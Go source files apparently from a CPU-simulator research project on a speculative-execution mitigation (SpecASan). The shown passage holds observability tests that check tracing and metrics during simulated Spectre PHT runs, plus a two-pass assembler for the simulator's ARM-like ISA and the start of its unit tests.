	if err != nil {
		t.Fatal(err)
	}
	cfg := core.DefaultConfig()
	cfg.Cores = spec.Threads
	m, err := cpu.NewMachine(cfg, core.Unsafe, prog)
	if err != nil {
		t.Fatal(err)
	}
	tr, met := attachFresh(m, 1<<20)
	res := m.Run(50_000_000)
	if res.TimedOut || res.Faulted || res.Err != nil {
		t.Fatalf("run did not complete cleanly: %v", res)
	}
	if tr.Dropped() != 0 {
		t.Fatalf("ring dropped %d events; enlarge the test capacity", tr.Dropped())
	}
	counts := kindCounts(tr)
	if counts[obs.EvCommit] != res.Committed {
		t.Errorf("EvCommit count %d, machine committed %d", counts[obs.EvCommit], res.Committed)
	}
	var latSamples uint64
	for i := 0; i < len(m.Cores); i++ {
		latSamples += met.Core(i).IssueToCommit.N
	}
	if latSamples != res.Committed {
		t.Errorf("issue-to-commit samples %d, committed %d", latSamples, res.Committed)
	}
	// The pipeline can only commit what it fetched, dispatched, and issued.
	for _, k := range []obs.EventKind{obs.EvFetch, obs.EvDispatch, obs.EvIssue, obs.EvExec} {
		if counts[k] < res.Committed {
			t.Errorf("%v count %d < committed %d", k, counts[k], res.Committed)
		}
	}
	// Event streams are per-core monotone in cycle order.
	for i := 0; i < tr.Cores(); i++ {
		evs := tr.Core(i).Events()
		for j := 1; j < len(evs); j++ {
			if evs[j].Cycle < evs[j-1].Cycle {
				t.Fatalf("core %d: event %d at cycle %d after cycle %d",
					i, j, evs[j].Cycle, evs[j-1].Cycle)
			}
		}
	}
}

// TestTagDelayObservedOnSpectre runs the paper's PHT gadget under SpecASan
// with observability attached: the mitigation must still block the leak, the
// tag-check-delay histogram must record the held accesses (the Table 1
// mechanism made measurable), and every delay-start must pair with a
// delay-end whose duration matches the histogram.
func TestTagDelayObservedOnSpectre(t *testing.T) {
	v := attacks.SpectrePHT().Variants[0]
	var tr *obs.Tracer
	var met *obs.Metrics
	out, err := attacks.RunVariantWith(v, core.SpecASan, func(m *cpu.Machine) {
		tr, met = attachFresh(m, 1<<20)
	})
	if err != nil {
		t.Fatal(err)
	}
	if out.Leaked {
		t.Fatal("SpecASan must block the PHT gadget")
	}
	var delays uint64
	for i := 0; ; i++ {
		cm := met.Core(i)
		if cm == nil {
			break
		}
		delays += cm.TagDelay.N
	}
	if delays == 0 {
		t.Fatal("no tag-check delays recorded; SpecASan held nothing")
	}
	counts := kindCounts(tr)
	if counts[obs.EvTagDelayStart] == 0 || counts[obs.EvTagDelayEnd] == 0 {
		t.Fatalf("trace missing tag-delay events: %v", counts)
	}
	if counts[obs.EvTagDelayEnd] != delays {
		t.Errorf("trace has %d delay ends, histogram has %d samples",
			counts[obs.EvTagDelayEnd], delays)
	}
	// Ends carry the delay duration; cross-check the histogram's total.
	var sum uint64
	for i := 0; i < tr.Cores(); i++ {
		for _, ev := range tr.Core(i).Events() {
			if ev.Kind == obs.EvTagDelayEnd {
				sum += ev.Arg
			}
		}
	}
	var histSum uint64
	for i := 0; i < tr.Cores(); i++ {
		histSum += met.Core(i).TagDelay.Sum
	}
	if sum != histSum {
		t.Errorf("trace delay cycles %d, histogram sum %d", sum, histSum)
	}
}

// TestSquashDepthObserved drives a branch-mispredicting run and checks the
// squash instrumentation: EvSquash events and squash-depth samples appear,
// and the histogram's total flushed-instruction count matches the trace.
func TestSquashDepthObserved(t *testing.T) {
	v := attacks.SpectrePHT().Variants[0]
	var tr *obs.Tracer
	var met *obs.Metrics
	if _, err := attacks.RunVariantWith(v, core.Unsafe, func(m *cpu.Machine) {
		tr, met = attachFresh(m, 1<<20)
	}); err != nil {
		t.Fatal(err)
	}
	counts := kindCounts(tr)
	if counts[obs.EvSquash] == 0 {
		t.Fatal("a mistrained PHT run must squash")
	}
	var squashed, samples uint64
	for i := 0; i < tr.Cores(); i++ {
		squashed += met.Core(i).SquashDepth.Sum
		samples += met.Core(i).SquashDepth.N
	}
	if samples == 0 {
		t.Fatal("no squash-depth samples")
	}
	if squashed != counts[obs.EvSquash] {
		t.Errorf("squash-depth histogram sums to %d insts, trace shows %d EvSquash",
			squashed, counts[obs.EvSquash])
	}
}

// TestAttachObsPartial pins the attach contract: a nil argument leaves the
// other attachment in place, so tracing and metrics can be wired separately.
func TestAttachObsPartial(t *testing.T) {
	spec := workloads.ByName("508.namd_r")
	prog, err := spec.Build(false, 0.01)
	if err != nil {
		t.Fatal(err)
	}
	cfg := core.DefaultConfig()
	cfg.Cores = spec.Threads
	m, err := cpu.NewMachine(cfg, core.Unsafe, prog)
	if err != nil {
		t.Fatal(err)
	}
	met := obs.NewMetrics(len(m.Cores))
	m.AttachObs(nil, met)
	tr := obs.NewTracer(len(m.Cores), 1<<16)
	m.AttachObs(tr, nil) // must not clear the metrics attachment
	m.Core(0).SetReg(isa.X0, 0)
	res := m.Run(10_000_000)
	if res.Committed == 0 {
		t.Fatal("nothing committed")
	}
	if met.Core(0).IssueToCommit.N == 0 {
		t.Fatal("metrics detached by the second AttachObs call")
	}
	if tr.Recorded() == 0 {
		t.Fatal("tracer not attached")
	}
}
