// Package asm implements a small two-pass assembler for the simulator's
// ARM-flavoured ISA. Attack proof-of-concepts (the paper's Listing 1) and
// workload kernels are written in this assembly.
//
// Syntax overview:
//
//	// comment            ; comment also works
//	_start:               // entry point label (optional; default first inst)
//	    MOV   X0, #42
//	    LDR   X1, [X2, #8]
//	    LDR   X1, [X2, X3]
//	    ADR   X4, table    // pseudo: load label address
//	    B.LO  done
//	    CBZ   X1, done
//	    SVC   #0           // exit
//	table:
//	    .org   0x2000      // start a new block at this address
//	    .word  1, 2, 3     // 64-bit little-endian words
//	    .byte  0xff, 'a'
//	    .ascii "secret"
//	    .align 16
//	    .space 64          // zero bytes
//
// Instructions occupy isa.InstBytes each; code and data share one address
// space.
package asm

import (
	"fmt"
	"sort"
	"strconv"
	"strings"

	"specasan/internal/isa"
)

// CodeBlock is a contiguous run of instructions starting at Addr.
type CodeBlock struct {
	Addr  uint64
	Insts []isa.Inst
}

// DataBlock is a contiguous run of initialised bytes starting at Addr.
type DataBlock struct {
	Addr  uint64
	Bytes []byte
}

// Program is the output of the assembler: code blocks, data blocks, the
// resolved label table and the entry address.
type Program struct {
	Code   []CodeBlock
	Data   []DataBlock
	Labels map[string]uint64
	Entry  uint64
}

// InstAt returns the instruction at addr, or nil if addr is not code.
func (p *Program) InstAt(addr uint64) *isa.Inst {
	for i := range p.Code {
		b := &p.Code[i]
		end := b.Addr + uint64(len(b.Insts))*isa.InstBytes
		if addr >= b.Addr && addr < end && (addr-b.Addr)%isa.InstBytes == 0 {
			return &b.Insts[(addr-b.Addr)/isa.InstBytes]
		}
	}
	return nil
}

// InstsFrom returns the contiguous instruction run starting at addr through
// the end of its code block, or nil if addr is not code. The golden
// interpreter's basic-block cache decodes straight-line regions from these
// subslices without per-instruction lookups.
func (p *Program) InstsFrom(addr uint64) []isa.Inst {
	for i := range p.Code {
		b := &p.Code[i]
		end := b.Addr + uint64(len(b.Insts))*isa.InstBytes
		if addr >= b.Addr && addr < end && (addr-b.Addr)%isa.InstBytes == 0 {
			return b.Insts[(addr-b.Addr)/isa.InstBytes:]
		}
	}
	return nil
}

// NumInsts returns the total number of assembled instructions.
func (p *Program) NumInsts() int {
	n := 0
	for i := range p.Code {
		n += len(p.Code[i].Insts)
	}
	return n
}

// LookupLabel returns the address of a label, or an error when the label
// does not exist. Production code (attack builders, harness plumbing) uses
// this form so a misnamed label surfaces as a propagated error instead of
// killing a whole sweep.
func (p *Program) LookupLabel(name string) (uint64, error) {
	a, ok := p.Labels[name]
	if !ok {
		return 0, fmt.Errorf("asm: unknown label %q", name)
	}
	return a, nil
}

// MustLabel returns the address of a label, panicking if absent. It is a
// convenience for tests that by construction know the label exists.
func (p *Program) MustLabel(name string) uint64 {
	a, err := p.LookupLabel(name)
	if err != nil {
		panic(err)
	}
	return a
}

// DefaultBase is where assembly starts when no .org precedes the first item.
const DefaultBase = 0x10000

// Error describes an assembly failure with its source line.
type Error struct {
	Line int
	Msg  string
}

func (e *Error) Error() string { return fmt.Sprintf("asm: line %d: %s", e.Line, e.Msg) }

type item struct {
	line  int
	addr  uint64
	inst  isa.Inst
	fixup string // label to resolve into Imm ("" = none)
	adr   bool   // true for ADR pseudo (label -> MOV imm)
}

type assembler struct {
	pc      uint64
	labels  map[string]uint64
	items   []item
	data    []DataBlock
	curData *DataBlock
	code    []CodeBlock
	curCode *CodeBlock
}

// Assemble translates source text into a Program.
func Assemble(src string) (*Program, error) {
	a := &assembler{pc: DefaultBase, labels: make(map[string]uint64)}
	lines := strings.Split(src, "\n")
	for i, raw := range lines {
		if err := a.line(i+1, raw); err != nil {
			return nil, err
		}
	}
	// Second pass: resolve fixups.
	for i := range a.items {
		it := &a.items[i]
		if it.fixup == "" {
			continue
		}
		target, ok := a.labels[it.fixup]
		if !ok {
			return nil, &Error{it.line, "undefined label " + it.fixup}
		}
		it.inst.Imm = int64(target)
		it.inst.HasImm = true
	}
	// Place resolved instructions into their code blocks.
	for _, it := range a.items {
		placed := false
		for bi := range a.code {
			b := &a.code[bi]
			off := it.addr - b.Addr
			if it.addr >= b.Addr && off/isa.InstBytes < uint64(len(b.Insts)) {
				b.Insts[off/isa.InstBytes] = it.inst
				placed = true
				break
			}
		}
		if !placed {
			return nil, &Error{it.line, "internal: instruction placement failed"}
		}
	}
	// Fixups are resolved, so operand lists are final: cache them.
	for bi := range a.code {
		b := &a.code[bi]
		for i := range b.Insts {
			b.Insts[i].Decode()
		}
	}
	entry := uint64(0)
	if e, ok := a.labels["_start"]; ok {
		entry = e
	} else if len(a.code) > 0 {
		entry = a.code[0].Addr
	}
	sort.Slice(a.code, func(i, j int) bool { return a.code[i].Addr < a.code[j].Addr })
	sort.Slice(a.data, func(i, j int) bool { return a.data[i].Addr < a.data[j].Addr })
	return &Program{Code: a.code, Data: a.data, Labels: a.labels, Entry: entry}, nil
}

// MustAssemble is Assemble that panics on error; for tests and static PoCs.
func MustAssemble(src string) *Program {
	p, err := Assemble(src)
	if err != nil {
		panic(err)
	}
	return p
}

func (a *assembler) line(n int, raw string) error {
	s := raw
	if i := strings.IndexAny(s, ";"); i >= 0 {
		s = s[:i]
	}
	if i := strings.Index(s, "//"); i >= 0 {
		s = s[:i]
	}
	s = strings.TrimSpace(s)
	for s != "" {
		// Labels: one or more "name:" prefixes.
		i := strings.Index(s, ":")
		if i < 0 || !isIdent(s[:i]) {
			break
		}
		name := s[:i]
		if _, dup := a.labels[name]; dup {
			return &Error{n, "duplicate label " + name}
		}
		a.labels[name] = a.pc
		s = strings.TrimSpace(s[i+1:])
	}
	if s == "" {
		return nil
	}
	if strings.HasPrefix(s, ".") {
		return a.directive(n, s)
	}
	return a.instruction(n, s)
}

func isIdent(s string) bool {
	if s == "" {
		return false
	}
	for i, c := range s {
		switch {
		case c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z' || c == '_' || c == '.':
		case c >= '0' && c <= '9' && i > 0:
		default:
			return false
		}
	}
	return true
}

func (a *assembler) emitData(b []byte) {
	if a.curData == nil || a.curData.Addr+uint64(len(a.curData.Bytes)) != a.pc {
		a.data = append(a.data, DataBlock{Addr: a.pc})
		a.curData = &a.data[len(a.data)-1]
	}
	a.curData.Bytes = append(a.curData.Bytes, b...)
	a.pc += uint64(len(b))
	a.curCode = nil
}

func (a *assembler) emitInst(n int, in isa.Inst, fixup string, adr bool) {
	if a.curCode == nil || a.curCode.Addr+uint64(len(a.curCode.Insts))*isa.InstBytes != a.pc {
		a.code = append(a.code, CodeBlock{Addr: a.pc})
		a.curCode = &a.code[len(a.code)-1]
	}
	a.items = append(a.items, item{line: n, addr: a.pc, inst: in, fixup: fixup, adr: adr})
	a.curCode.Insts = append(a.curCode.Insts, isa.Inst{}) // placeholder
	a.pc += isa.InstBytes
	a.curData = nil
}

func (a *assembler) directive(n int, s string) error {
	name, rest, _ := strings.Cut(s, " ")
	rest = strings.TrimSpace(rest)
	switch name {
	case ".org":
		v, err := parseNum(rest)
		if err != nil {
			return &Error{n, ".org: " + err.Error()}
		}
		a.pc = uint64(v)
		a.curCode, a.curData = nil, nil
	case ".align":
		v, err := parseNum(rest)
		if err != nil || v <= 0 {
			return &Error{n, ".align: bad alignment"}
		}
		al := uint64(v)
		if a.pc%al != 0 {
			pad := al - a.pc%al
			a.emitData(make([]byte, pad))
		}
	case ".space":
		v, err := parseNum(rest)
		if err != nil || v < 0 {
			return &Error{n, ".space: bad size"}
		}
		a.emitData(make([]byte, v))
	case ".byte":
		for _, f := range splitOperands(rest) {
			v, err := parseNum(f)
			if err != nil {
				return &Error{n, ".byte: " + err.Error()}
			}
			a.emitData([]byte{byte(v)})
		}
	case ".word":
		for _, f := range splitOperands(rest) {
			var buf [8]byte
			if lbl := strings.TrimSpace(f); isIdent(lbl) && !isNumStart(lbl) {
				// Label addresses in .word are resolved immediately if the
				// label is already defined; forward refs are not supported
				// in data (keeps the assembler two-pass only for code).
				addr, ok := a.labels[lbl]
				if !ok {
					return &Error{n, ".word: forward label reference " + lbl}
				}
				putU64(buf[:], addr)
			} else {
				v, err := parseNum(f)
				if err != nil {
					return &Error{n, ".word: " + err.Error()}
				}
				putU64(buf[:], uint64(v))
			}
			a.emitData(buf[:])
		}
	case ".ascii", ".asciz":
		str, err := strconv.Unquote(rest)
		if err != nil {
			return &Error{n, name + ": bad string"}
		}
		b := []byte(str)
		if name == ".asciz" {
			b = append(b, 0)
		}
		a.emitData(b)
	default:
		return &Error{n, "unknown directive " + name}
	}
	return nil
}

func putU64(b []byte, v uint64) {
	for i := 0; i < 8; i++ {
		b[i] = byte(v >> (8 * i))
	}
}

func isNumStart(s string) bool {
	return s != "" && (s[0] >= '0' && s[0] <= '9' || s[0] == '-' || s[0] == '+' || s[0] == '#' || s[0] == '\'')
}

// splitOperands splits on commas that are outside brackets and quotes.
func splitOperands(s string) []string {
	var out []string
	depth, start := 0, 0
	inQuote := false
	for i := 0; i < len(s); i++ {
		switch s[i] {
		case '\'':
			inQuote = !inQuote
		case '[':
			depth++
		case ']':
			depth--
		case ',':
			if depth == 0 && !inQuote {
				out = append(out, strings.TrimSpace(s[start:i]))
				start = i + 1
			}
		}
	}
	last := strings.TrimSpace(s[start:])
	if last != "" || len(out) > 0 {
		out = append(out, last)
	}
	return out
}

func parseNum(s string) (int64, error) {
	s = strings.TrimSpace(strings.TrimPrefix(strings.TrimSpace(s), "#"))
	if s == "" {
		return 0, fmt.Errorf("empty number")
	}
	if len(s) >= 3 && s[0] == '\'' && s[len(s)-1] == '\'' {
		r, err := strconv.Unquote(s)
		if err != nil || len(r) != 1 {
			return 0, fmt.Errorf("bad char literal %q", s)
		}
		return int64(r[0]), nil
	}
	neg := false
	if strings.HasPrefix(s, "-") {
		neg, s = true, s[1:]
	}
	v, err := strconv.ParseUint(strings.TrimPrefix(s, "+"), 0, 64)
	if err != nil {
		return 0, fmt.Errorf("bad number %q", s)
	}
	if neg {
		return -int64(v), nil
	}
	return int64(v), nil
}

func parseReg(s string) (isa.Reg, bool) {
	switch strings.ToUpper(strings.TrimSpace(s)) {
	case "XZR":
		return isa.XZR, true
	case "SP":
		return isa.SP, true
	case "LR":
		return isa.LR, true
	}
	s = strings.TrimSpace(s)
	if len(s) >= 2 && (s[0] == 'X' || s[0] == 'x') {
		n, err := strconv.Atoi(s[1:])
		if err == nil && n >= 0 && n <= 30 {
			return isa.Reg(n), true
		}
	}
	return 0, false
}

var condByName = map[string]isa.Cond{
	"EQ": isa.EQ, "NE": isa.NE, "HS": isa.HS, "CS": isa.HS,
	"LO": isa.LO, "CC": isa.LO, "MI": isa.MI, "PL": isa.PL,
	"VS": isa.VS, "VC": isa.VC, "HI": isa.HI, "LS": isa.LS,
	"GE": isa.GE, "LT": isa.LT, "GT": isa.GT, "LE": isa.LE, "AL": isa.AL,
}

// memOperand parses "[Xn]", "[Xn, #imm]" or "[Xn, Xm]".
func memOperand(s string) (base, idx isa.Reg, imm int64, hasImm, ok bool) {
	s = strings.TrimSpace(s)
	if len(s) < 2 || s[0] != '[' || s[len(s)-1] != ']' {
		return 0, 0, 0, false, false
	}
	parts := splitOperands(s[1 : len(s)-1])
	if len(parts) == 0 || len(parts) > 2 {
		return 0, 0, 0, false, false
	}
	base, ok = parseReg(parts[0])
	if !ok {
		return 0, 0, 0, false, false
	}
	if len(parts) == 1 {
		return base, 0, 0, true, true // [Xn] == [Xn, #0]
	}
	if r, isReg := parseReg(parts[1]); isReg {
		return base, r, 0, false, true
	}
	v, err := parseNum(parts[1])
	if err != nil {
		return 0, 0, 0, false, false
	}
	return base, 0, v, true, true
}

func (a *assembler) instruction(n int, s string) error {
	mn, rest, _ := strings.Cut(s, " ")
	mn = strings.ToUpper(mn)
	ops := splitOperands(strings.TrimSpace(rest))
	fail := func(msg string) error { return &Error{n, mn + ": " + msg} }

	reg := func(i int) (isa.Reg, error) {
		if i >= len(ops) {
			return 0, fail("missing register operand")
		}
		r, ok := parseReg(ops[i])
		if !ok {
			return 0, fail("bad register " + ops[i])
		}
		return r, nil
	}
	num := func(i int) (int64, error) {
		if i >= len(ops) {
			return 0, fail("missing immediate operand")
		}
		v, err := parseNum(ops[i])
		if err != nil {
			return 0, fail(err.Error())
		}
		return v, nil
	}

	// Conditional branch: B.<cond> label
	if strings.HasPrefix(mn, "B.") {
		c, ok := condByName[mn[2:]]
		if !ok {
			return fail("unknown condition")
		}
		if len(ops) != 1 {
			return fail("want 1 operand")
		}
		a.emitInst(n, isa.Inst{Op: isa.BCC, Cond: c}, ops[0], false)
		return nil
	}

	switch mn {
	case "NOP", "DSB", "ISB", "BTI", "HLT", "YIELD":
		var op isa.Op
		switch mn {
		case "NOP":
			op = isa.NOP
		case "DSB":
			op = isa.DSB
		case "ISB":
			op = isa.ISB
		case "BTI":
			op = isa.BTI
		case "HLT":
			op = isa.HLT
		case "YIELD":
			op = isa.YIELD
		}
		a.emitInst(n, isa.Inst{Op: op}, "", false)
		return nil

	case "MOV":
		rd, err := reg(0)
		if err != nil {
			return err
		}
		if len(ops) != 2 {
			return fail("want 2 operands")
		}
		if rs, ok := parseReg(ops[1]); ok {
			a.emitInst(n, isa.Inst{Op: isa.MOV, Rd: rd, Rn: rs}, "", false)
			return nil
		}
		if lbl := strings.TrimPrefix(ops[1], "="); lbl != ops[1] {
			a.emitInst(n, isa.Inst{Op: isa.MOV, Rd: rd, HasImm: true}, lbl, true)
			return nil
		}
		v, err := num(1)
		if err != nil {
			return err
		}
		a.emitInst(n, isa.Inst{Op: isa.MOV, Rd: rd, Imm: v, HasImm: true}, "", false)
		return nil

	case "ADR":
		rd, err := reg(0)
		if err != nil {
			return err
		}
		if len(ops) != 2 {
			return fail("want 2 operands")
		}
		a.emitInst(n, isa.Inst{Op: isa.MOV, Rd: rd, HasImm: true}, ops[1], true)
		return nil

	case "MOVK":
		rd, err := reg(0)
		if err != nil {
			return err
		}
		v, err := num(1)
		if err != nil {
			return err
		}
		var shift int64
		if len(ops) == 3 {
			sh := strings.ToUpper(strings.TrimSpace(ops[2]))
			if !strings.HasPrefix(sh, "LSL") {
				return fail("want LSL #n")
			}
			shift, err = parseNum(strings.TrimSpace(sh[3:]))
			if err != nil {
				return fail("bad shift")
			}
		}
		a.emitInst(n, isa.Inst{Op: isa.MOVK, Rd: rd, Imm: v, Imm2: shift, HasImm: true}, "", false)
		return nil

	case "ADD", "ADDS", "SUB", "SUBS", "AND", "ORR", "EOR", "LSL", "LSR", "ASR":
		opm := map[string]isa.Op{"ADD": isa.ADD, "ADDS": isa.ADDS, "SUB": isa.SUB,
			"SUBS": isa.SUBS, "AND": isa.AND, "ORR": isa.ORR, "EOR": isa.EOR,
			"LSL": isa.LSL, "LSR": isa.LSR, "ASR": isa.ASR}
		rd, err := reg(0)
		if err != nil {
			return err
		}
		rn, err := reg(1)
		if err != nil {
			return err
		}
		if len(ops) != 3 {
			return fail("want 3 operands")
		}
		in := isa.Inst{Op: opm[mn], Rd: rd, Rn: rn}
		if rm, ok := parseReg(ops[2]); ok {
			in.Rm = rm
		} else {
			v, err := num(2)
			if err != nil {
				return err
			}
			in.Imm, in.HasImm = v, true
		}
		a.emitInst(n, in, "", false)
		return nil

	case "CMP":
		rn, err := reg(0)
		if err != nil {
			return err
		}
		if len(ops) != 2 {
			return fail("want 2 operands")
		}
		in := isa.Inst{Op: isa.CMP, Rn: rn}
		if rm, ok := parseReg(ops[1]); ok {
			in.Rm = rm
		} else {
			v, err := num(1)
			if err != nil {
				return err
			}
			in.Imm, in.HasImm = v, true
		}
		a.emitInst(n, in, "", false)
		return nil

	case "MUL", "UDIV", "SDIV", "GMI":
		opm := map[string]isa.Op{"MUL": isa.MUL, "UDIV": isa.UDIV,
			"SDIV": isa.SDIV, "GMI": isa.GMI}
		rd, err := reg(0)
		if err != nil {
			return err
		}
		rn, err := reg(1)
		if err != nil {
			return err
		}
		rm, err := reg(2)
		if err != nil {
			return err
		}
		a.emitInst(n, isa.Inst{Op: opm[mn], Rd: rd, Rn: rn, Rm: rm}, "", false)
		return nil

	case "CSEL":
		rd, err := reg(0)
		if err != nil {
			return err
		}
		rn, err := reg(1)
		if err != nil {
			return err
		}
		rm, err := reg(2)
		if err != nil {
			return err
		}
		if len(ops) != 4 {
			return fail("want 4 operands")
		}
		c, ok := condByName[strings.ToUpper(strings.TrimSpace(ops[3]))]
		if !ok {
			return fail("bad condition")
		}
		a.emitInst(n, isa.Inst{Op: isa.CSEL, Rd: rd, Rn: rn, Rm: rm, Cond: c}, "", false)
		return nil

	case "LDR", "LDRB", "STR", "STRB":
		opm := map[string]isa.Op{"LDR": isa.LDR, "LDRB": isa.LDRB,
			"STR": isa.STR, "STRB": isa.STRB}
		rt, err := reg(0)
		if err != nil {
			return err
		}
		if len(ops) != 2 {
			return fail("want 2 operands")
		}
		base, idx, imm, hasImm, ok := memOperand(ops[1])
		if !ok {
			return fail("bad memory operand " + ops[1])
		}
		a.emitInst(n, isa.Inst{Op: opm[mn], Rd: rt, Rn: base, Rm: idx,
			Imm: imm, HasImm: hasImm}, "", false)
		return nil

	case "SWPAL":
		rs, err := reg(0)
		if err != nil {
			return err
		}
		rt, err := reg(1)
		if err != nil {
			return err
		}
		if len(ops) != 3 {
			return fail("want 3 operands")
		}
		base, _, _, _, ok := memOperand(ops[2])
		if !ok {
			return fail("bad memory operand")
		}
		a.emitInst(n, isa.Inst{Op: isa.SWPAL, Rd: rs, Rm: rt, Rn: base}, "", false)
		return nil

	case "B", "BL":
		if len(ops) != 1 {
			return fail("want 1 operand")
		}
		op := isa.B
		if mn == "BL" {
			op = isa.BL
		}
		a.emitInst(n, isa.Inst{Op: op}, ops[0], false)
		return nil

	case "CBZ", "CBNZ":
		rn, err := reg(0)
		if err != nil {
			return err
		}
		if len(ops) != 2 {
			return fail("want 2 operands")
		}
		op := isa.CBZ
		if mn == "CBNZ" {
			op = isa.CBNZ
		}
		a.emitInst(n, isa.Inst{Op: op, Rn: rn}, ops[1], false)
		return nil

	case "BR", "BLR":
		rn, err := reg(0)
		if err != nil {
			return err
		}
		op := isa.BR
		if mn == "BLR" {
			op = isa.BLR
		}
		a.emitInst(n, isa.Inst{Op: op, Rn: rn}, "", false)
		return nil

	case "RET":
		rn := isa.LR
		if len(ops) == 1 {
			var err error
			rn, err = reg(0)
			if err != nil {
				return err
			}
		}
		a.emitInst(n, isa.Inst{Op: isa.RET, Rn: rn}, "", false)
		return nil

	case "IRG":
		rd, err := reg(0)
		if err != nil {
			return err
		}
		rn, err := reg(1)
		if err != nil {
			return err
		}
		in := isa.Inst{Op: isa.IRG, Rd: rd, Rn: rn, Rm: isa.XZR}
		if len(ops) == 3 {
			rm, err := reg(2)
			if err != nil {
				return err
			}
			in.Rm = rm
		}
		a.emitInst(n, in, "", false)
		return nil

	case "ADDG", "SUBG":
		rd, err := reg(0)
		if err != nil {
			return err
		}
		rn, err := reg(1)
		if err != nil {
			return err
		}
		v1, err := num(2)
		if err != nil {
			return err
		}
		v2, err := num(3)
		if err != nil {
			return err
		}
		op := isa.ADDG
		if mn == "SUBG" {
			op = isa.SUBG
		}
		a.emitInst(n, isa.Inst{Op: op, Rd: rd, Rn: rn, Imm: v1, Imm2: v2, HasImm: true}, "", false)
		return nil

	case "STG", "ST2G", "LDG":
		opm := map[string]isa.Op{"STG": isa.STG, "ST2G": isa.ST2G, "LDG": isa.LDG}
		rt, err := reg(0)
		if err != nil {
			return err
		}
		if len(ops) != 2 {
			return fail("want 2 operands")
		}
		base, _, imm, hasImm, ok := memOperand(ops[1])
		if !ok || !hasImm || imm != 0 {
			return fail("want [Xn]")
		}
		a.emitInst(n, isa.Inst{Op: opm[mn], Rd: rt, Rn: base}, "", false)
		return nil

	case "MRS":
		rd, err := reg(0)
		if err != nil {
			return err
		}
		if len(ops) != 2 || !strings.EqualFold(strings.TrimSpace(ops[1]), "CNTVCT_EL0") {
			return fail("want MRS Xd, CNTVCT_EL0")
		}
		a.emitInst(n, isa.Inst{Op: isa.MRS, Rd: rd}, "", false)
		return nil

	case "DC":
		if len(ops) != 2 || !strings.EqualFold(strings.TrimSpace(ops[0]), "CIVAC") {
			return fail("want DC CIVAC, Xn")
		}
		rn, err := reg(1)
		if err != nil {
			return err
		}
		a.emitInst(n, isa.Inst{Op: isa.DC, Rn: rn}, "", false)
		return nil

	case "SVC":
		v, err := num(0)
		if err != nil {
			return err
		}
		a.emitInst(n, isa.Inst{Op: isa.SVC, Imm: v, HasImm: true}, "", false)
		return nil
	}
	return fail("unknown mnemonic")
}
