package asm

import (
	"strings"
	"testing"

	"specasan/internal/isa"
)

func TestAssembleBasicProgram(t *testing.T) {
	p, err := Assemble(`
_start:
    MOV  X0, #5
    MOV  X1, X0
    ADD  X2, X0, X1
    SVC  #0
`)
	if err != nil {
		t.Fatal(err)
	}
	if p.NumInsts() != 4 {
		t.Fatalf("want 4 insts, got %d", p.NumInsts())
	}
	if p.Entry != DefaultBase {
		t.Fatalf("entry = %#x", p.Entry)
	}
	in := p.InstAt(p.Entry)
	if in == nil || in.Op != isa.MOV || in.Rd != isa.X0 || in.Imm != 5 || !in.HasImm {
		t.Fatalf("first inst = %v", in)
	}
	in = p.InstAt(p.Entry + 8)
	if in.Op != isa.ADD || in.Rd != isa.X2 || in.Rn != isa.X0 || in.Rm != isa.X1 || in.HasImm {
		t.Fatalf("third inst = %v", in)
	}
}

func TestLabelsAndBranches(t *testing.T) {
	p := MustAssemble(`
_start:
    MOV X0, #0
loop:
    ADD X0, X0, #1
    CMP X0, #10
    B.LT loop
    B   done
    NOP
done:
    SVC #0
`)
	bcc := p.InstAt(p.MustLabel("loop") + 8)
	if bcc.Op != isa.BCC || bcc.Cond != isa.LT || uint64(bcc.Imm) != p.MustLabel("loop") {
		t.Fatalf("B.LT = %v", bcc)
	}
	b := p.InstAt(p.MustLabel("loop") + 12)
	if b.Op != isa.B || uint64(b.Imm) != p.MustLabel("done") {
		t.Fatalf("B = %v", b)
	}
}

func TestMemoryOperands(t *testing.T) {
	p := MustAssemble(`
    LDR X1, [X2]
    LDR X3, [X4, #16]
    LDR X5, [X6, X7]
    STR X1, [X2, #-8]
    LDRB X9, [X10, X11]
`)
	base := p.Entry
	cases := []struct {
		op     isa.Op
		rn, rm isa.Reg
		imm    int64
		hasImm bool
	}{
		{isa.LDR, isa.X2, 0, 0, true},
		{isa.LDR, isa.X4, 0, 16, true},
		{isa.LDR, isa.X6, isa.X7, 0, false},
		{isa.STR, isa.X2, 0, -8, true},
		{isa.LDRB, isa.X10, isa.X11, 0, false},
	}
	for i, c := range cases {
		in := p.InstAt(base + uint64(4*i))
		if in.Op != c.op || in.Rn != c.rn || in.HasImm != c.hasImm || in.Imm != c.imm {
			t.Errorf("inst %d = %v, want %+v", i, in, c)
		}
		if !c.hasImm && in.Rm != c.rm {
			t.Errorf("inst %d rm = %v", i, in.Rm)
		}
	}
}

func TestDataDirectives(t *testing.T) {
	p := MustAssemble(`
_start:
    NOP
    SVC #0
    .org 0x2000
table:
    .word 1, 2, 0x10
    .byte 0xaa, 'b'
    .ascii "hi"
    .align 8
    .space 16
after:
    .word table
`)
	if p.MustLabel("table") != 0x2000 {
		t.Fatalf("table = %#x", p.MustLabel("table"))
	}
	var data *DataBlock
	for i := range p.Data {
		if p.Data[i].Addr == 0x2000 {
			data = &p.Data[i]
		}
	}
	if data == nil {
		t.Fatal("no data block at 0x2000")
	}
	if data.Bytes[0] != 1 || data.Bytes[8] != 2 || data.Bytes[16] != 0x10 {
		t.Fatalf("words wrong: % x", data.Bytes[:24])
	}
	if data.Bytes[24] != 0xaa || data.Bytes[25] != 'b' {
		t.Fatalf("bytes wrong: % x", data.Bytes[24:26])
	}
	if string(data.Bytes[26:28]) != "hi" {
		t.Fatalf("ascii wrong: %q", data.Bytes[26:28])
	}
	// after = 0x2000 + 28 aligned to 8 = 0x2020, + 16 space
	if got := p.MustLabel("after"); got != 0x2030 {
		t.Fatalf("after = %#x", got)
	}
}

func TestMTEInstructions(t *testing.T) {
	p := MustAssemble(`
    IRG  X0, X1
    IRG  X2, X3, X4
    ADDG X5, X6, #32, #1
    STG  X0, [X1]
    ST2G X0, [X1]
    LDG  X7, [X8]
    GMI  X9, X10, X11
`)
	irg := p.InstAt(p.Entry)
	if irg.Op != isa.IRG || irg.Rm != isa.XZR {
		t.Fatalf("IRG two-operand = %v", irg)
	}
	irg2 := p.InstAt(p.Entry + 4)
	if irg2.Rm != isa.X4 {
		t.Fatalf("IRG three-operand = %v", irg2)
	}
	addg := p.InstAt(p.Entry + 8)
	if addg.Imm != 32 || addg.Imm2 != 1 {
		t.Fatalf("ADDG = %v", addg)
	}
}

func TestErrors(t *testing.T) {
	cases := []string{
		"BOGUS X1, X2",
		"MOV X0",
